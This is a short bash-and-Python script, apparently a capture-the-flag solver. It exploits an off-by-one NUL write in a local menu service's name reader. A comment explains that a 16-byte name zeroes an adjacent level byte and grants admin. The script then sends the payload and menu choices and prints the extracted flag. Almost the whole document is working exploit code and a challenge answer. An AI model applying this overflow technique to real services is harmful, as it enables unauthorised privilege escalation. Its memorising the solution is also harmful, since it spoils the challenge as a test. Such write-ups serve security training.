#!/bin/bash
# Disassembly of read_name shows a loop i < size that stores buf[i] = 0 afterwards: with a 16-byte
# name the NUL lands on the level byte right after name[16], and level 0 is admin (print badge shows it).
set -e
python3 - <<'PY'
import re, socket
s = socket.create_connection(("127.0.0.1", 9105)); s.settimeout(10)
def until(tok):
    buf = b""
    while tok not in buf:
        d = s.recv(4096)
        if not d: break
        buf += d
    return buf
until(b"> "); s.sendall(b"1\n")
until(b": "); s.sendall(b"B" * 16 + b"\n")
until(b"> "); s.sendall(b"2\n")
badge = until(b"> ")
s.sendall(b"3\n")
out = until(b"> ")
s.sendall(b"4\n")
print(re.search(rb"flag\{[^}]+\}", out).group(0).decode())
PY
